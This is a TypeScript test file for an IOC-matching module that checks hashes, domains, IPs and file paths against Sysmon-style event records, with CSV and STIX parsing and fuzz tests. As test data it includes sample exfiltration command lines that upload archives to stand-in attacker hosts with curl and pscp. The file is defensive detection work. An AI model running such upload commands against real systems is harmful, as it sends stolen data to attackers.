// IOC loading and matching, with inline indicator sets and records built from plain objects.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ObjectRecord } from '../../src/event/object-record.js';
import { buildIocSet, loadIocs, parseIocCsv, parseStixIndicators } from '../../src/intel/iocs.js';
import type { Indicator } from '../../src/intel/iocs.js';
import { corpusPath, corpusSkip } from '../helpers/corpus.js';

function record(
  eventId: number,
  data: Record<string, string>,
  channel = 'Microsoft-Windows-Sysmon/Operational',
) {
  return new ObjectRecord(
    {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: eventId,
          EventRecordID: 7,
          Channel: channel,
          Computer: 'ws01.corp.example',
          TimeCreated: { '#attributes': { SystemTime: '2020-05-01T10:00:00.000Z' } },
        },
        EventData: data,
      },
    },
    { file: 'sysmon.evtx', tenant: 'acme' },
  );
}

const SET: Indicator[] = [
  { type: 'md5', value: 'be53764063bb1d054d78f2bf08fb90f3', description: 'Ecipekac loader' },
  { type: 'sha256', value: '27876dc5e6f746ff6003450eeea5e98de5d96cbcba9e4694dad94ca3e9fb1ddc' },
  { type: 'domain', value: 'evil-c2.example.net', description: 'C2' },
  { type: 'ip', value: '203.0.113.9' },
  { type: 'file_name', value: 'jli.dll' },
  {
    type: 'file_name',
    value: 'svchost.exe',
    description: 'renamed WinRAR (legitimate name - only out of place)',
  },
  { type: 'file_path', value: 'C:\\Intel\\' },
  { type: 'file_path', value: 'AppData\\Local\\Temp\\winsyslog\\msseces.exe' },
  { type: 'url', value: 'https://drop.example.org/upload' },
];
const iocs = buildIocSet(SET);

test('Sysmon Hashes field matches MD5 and SHA256 inside the key=value list', () => {
  const hits = iocs.match(
    record(7, {
      Image: 'C:\\Program Files\\Java\\bin\\policytool.exe',
      ImageLoaded: 'C:\\ProgramData\\x\\helper.dll',
      Hashes:
        'SHA1=0000000000000000000000000000000000000000,MD5=BE53764063BB1D054D78F2BF08FB90F3,SHA256=27876DC5E6F746FF6003450EEEA5E98DE5D96CBCBA9E4694DAD94CA3E9FB1DDC',
    }),
  );
  assert.deepEqual(hits.map((h) => h.rule.id).sort(), ['ioc:md5', 'ioc:sha256']);
  const md5 = hits.find((h) => h.rule.id === 'ioc:md5')!;
  assert.equal(md5.rule.level, 'high');
  assert.equal(md5.fields.IocValue, 'be53764063bb1d054d78f2bf08fb90f3');
  assert.equal(md5.fields.IocField, 'Hashes');
  assert.equal(md5.tenant, 'acme');
  assert.equal(md5.host, 'ws01.corp.example');
  assert.equal(md5.recordId, 7);
});

test('domains match DNS queries and subdomains but respect host boundaries', () => {
  assert.equal(iocs.match(record(22, { QueryName: 'evil-c2.example.net' })).length, 1);
  assert.equal(iocs.match(record(22, { QueryName: 'a.b.EVIL-C2.example.net' })).length, 1);
  assert.equal(iocs.match(record(22, { QueryName: 'notevil-c2.example.net' })).length, 0);
  assert.equal(iocs.match(record(22, { QueryName: 'evil-c2.example.net.attacker.org' })).length, 0);
  assert.equal(iocs.match(record(22, { QueryName: 'example.net' })).length, 0);
});

test('domains and IPs are found inside command lines and URLs', () => {
  const cmd = record(1, { CommandLine: 'curl.exe -F "f=@ss.rar" https://evil-c2.example.net:443/u?x=1' });
  assert.deepEqual(
    iocs.match(cmd).map((h) => h.fields.IocField),
    ['CommandLine'],
  );
  const url = record(1, { CommandLine: 'c.exe -T a.rar https://drop.example.org/upload/a' });
  assert.equal(iocs.match(url)[0]?.rule.id, 'ioc:url');
  const ipText = record(1, { CommandLine: 'pscp.exe a.rar root@203.0.113.9:/tmp' });
  assert.equal(iocs.match(ipText)[0]?.rule.id, 'ioc:ip');
  const near = record(1, { CommandLine: 'ping 203.0.113.90 && nslookup xevil-c2.example.net' });
  assert.equal(iocs.match(near).length, 0);
});

test('IP fields match, including IPv4-mapped IPv6', () => {
  assert.equal(iocs.match(record(3, { DestinationIp: '203.0.113.9' })).length, 1);
  assert.equal(iocs.match(record(4624, { IpAddress: '::ffff:203.0.113.9' }, 'Security')).length, 1);
  assert.equal(iocs.match(record(3, { DestinationIp: '203.0.113.8' })).length, 0);
});

test('file names match basenames; legitimate names only outside system folders', () => {
  assert.equal(iocs.match(record(7, { ImageLoaded: 'C:\\Users\\a\\AppData\\jli.dll' })).length, 1);
  assert.equal(iocs.match(record(7, { ImageLoaded: 'C:\\x\\notjli.dll' })).length, 0);
  // Inside an installed product's folder a name is the product's own file: only hashes decide there.
  assert.equal(
    iocs.match(record(7, { ImageLoaded: 'C:\\Program Files\\Java\\jre\\bin\\jli.dll' })).length,
    0,
  );
  const signed = record(7, {
    ImageLoaded: 'C:\\Program Files\\Java\\jre\\bin\\jli.dll',
    Hashes: 'MD5=BE53764063BB1D054D78F2BF08FB90F3',
  });
  assert.deepEqual(
    iocs.match(signed).map((h) => h.rule.id),
    ['ioc:md5'],
  );
  assert.equal(iocs.match(record(1, { Image: 'C:\\Windows\\System32\\svchost.exe' })).length, 0);
  assert.equal(iocs.match(record(1, { Image: 'C:\\Users\\Public\\svchost.exe' })).length, 1);
});

test('file paths match absolute directory prefixes and relative suffixes', () => {
  assert.equal(iocs.match(record(11, { TargetFilename: 'C:\\Intel\\t.vbs' })).length, 1);
  assert.equal(iocs.match(record(11, { TargetFilename: 'D:\\Intel\\t.vbs' })).length, 0);
  const rel = record(11, { TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\winsyslog\\msseces.exe' });
  assert.equal(iocs.match(rel).length, 1);
});

test('a record can hit several indicators, each once', () => {
  const hits = iocs.match(
    record(1, {
      Image: 'C:\\Intel\\jli.dll',
      CommandLine: 'x evil-c2.example.net evil-c2.example.net',
    }),
  );
  assert.deepEqual(hits.map((h) => h.rule.id).sort(), ['ioc:domain', 'ioc:file_name', 'ioc:file_path']);
});

test('CSV parsing: header, quotes, defanged values, bad rows reported with line numbers', () => {
  const csv =
    'type,value,description,source\n' +
    'domain,evil[.]example.com,"C2, seen 2020",https://ref\n' +
    'md5,nothex,bad,x\n' +
    'weird,abc,,\n' +
    'sha256,' +
    'A'.repeat(64) +
    ',"multi\nline",src\n';
  const parsed = parseIocCsv(csv, 'x.csv');
  assert.deepEqual(
    parsed.indicators.map((i) => [i.type, i.value]),
    [
      ['domain', 'evil.example.com'],
      ['sha256', 'a'.repeat(64)],
    ],
  );
  assert.equal(parsed.indicators[0].description, 'C2, seen 2020');
  assert.deepEqual(
    parsed.problems.map((p) => p.line),
    [3, 4],
  );
});

test('STIX bundles: indicator patterns with OR-ed comparisons', () => {
  const bundle = {
    type: 'bundle',
    id: 'bundle--1',
    objects: [
      { type: 'identity', id: 'identity--1', name: 'x' },
      {
        type: 'indicator',
        id: 'indicator--1',
        name: 'Loader',
        pattern_type: 'stix',
        pattern:
          "[file:hashes.'SHA-256' = '" +
          'b'.repeat(64) +
          "'] OR [file:hashes.MD5 = '" +
          'c'.repeat(32) +
          "']",
      },
      {
        type: 'indicator',
        id: 'indicator--2',
        pattern_type: 'stix',
        pattern: "[domain-name:value = 'c2.example.com']",
      },
      { type: 'indicator', id: 'indicator--3', pattern_type: 'yara', pattern: 'rule x {}' },
      {
        type: 'indicator',
        id: 'indicator--4',
        pattern_type: 'stix',
        pattern: "[ipv4-addr:value = '198.51.100.1']",
      },
    ],
  };
  const parsed = parseStixIndicators(JSON.stringify(bundle), 'b.json');
  assert.deepEqual(
    parsed.indicators.map((i) => i.type),
    ['sha256', 'md5', 'domain', 'ip'],
  );
  assert.equal(parsed.indicators[0].description, 'Loader');
  assert.equal(parsed.problems.length, 1);
  assert.equal(parseStixIndicators('{oops', 'b.json').problems.length, 1);
});

test('loadIocs picks the format by content and reports unreadable files', () => {
  const dir = mkdtempSync(join(tmpdir(), 'dwell-iocs-'));
  writeFileSync(join(dir, 'a.csv'), 'domain,c2.example.com,,\n');
  writeFileSync(
    join(dir, 'b.json'),
    JSON.stringify({
      type: 'bundle',
      objects: [{ type: 'indicator', pattern: "[ipv4-addr:value = '198.51.100.1']" }],
    }),
  );
  const set = loadIocs([join(dir, 'a.csv'), join(dir, 'b.json'), join(dir, 'missing.csv')]);
  assert.equal(set.size, 2);
  assert.equal(set.problems.length, 1);
  assert.match(set.problems[0].file, /missing\.csv$/);
  assert.equal(set.match(record(22, { QueryName: 'c2.example.com' })).length, 1);
});

test('hostile text: oversized tokens are not host names, and control characters are skipped', () => {
  assert.deepEqual(iocs.match(record(1, { CommandLine: 'a.'.repeat(600_000) + 'evil-c2.example.net' })), []);
  const padded = '\u0000'.repeat(100_000) + ' evil-c2.example.net';
  assert.equal(iocs.match(record(1, { CommandLine: padded })).length, 1);
});

test(
  'the published Cicada set loads without problems and matches its own indicators',
  { skip: corpusSkip },
  () => {
    const set = loadIocs([corpusPath('cicada', 'cicada_iocs.csv')]);
    assert.equal(set.size, 1465);
    assert.deepEqual(set.problems, []);
    const hits = set.match(
      record(7, { ImageLoaded: 'C:\\ProgramData\\jli.dll', Hashes: 'MD5=be53764063bb1d054d78f2bf08fb90f3' }),
    );
    assert.deepEqual(hits.map((h) => h.rule.id).sort(), ['ioc:file_name', 'ioc:md5']);
    assert.equal(set.match(record(1, { Image: 'C:\\Windows\\System32\\rundll32.exe' })).length, 0);
  },
);

test('fuzz: random hostile field values never throw and only ever report loaded indicators', () => {
  let state = 12345;
  const rand = () => (state = (Math.imul(state, 1103515245) + 12345) >>> 0) / 4294967296;
  const alphabet =
    'abcdefghijklmnopqrstuvwxyz0123456789.-_:/\\=, @[]\u0000\u00e9\ud83d\ude00evil-c2.example.net203.0.113.9';
  const known = new Set(SET.map((i) => i.value.toLowerCase()));
  for (let i = 0; i < 3000; i++) {
    const text = Array.from(
      { length: Math.floor(rand() * 300) },
      () => alphabet[Math.floor(rand() * alphabet.length)],
    ).join('');
    const fields: Record<string, string> = {};
    for (const name of [
      'CommandLine',
      'QueryName',
      'Hashes',
      'Image',
      'TargetFilename',
      'DestinationIp',
      'IpAddress',
    ]) {
      if (rand() < 0.5) fields[name] = text;
    }
    for (const hit of iocs.match(record(1, fields)))
      assert.ok(known.has(hit.fields.IocValue), hit.fields.IocValue);
  }
});
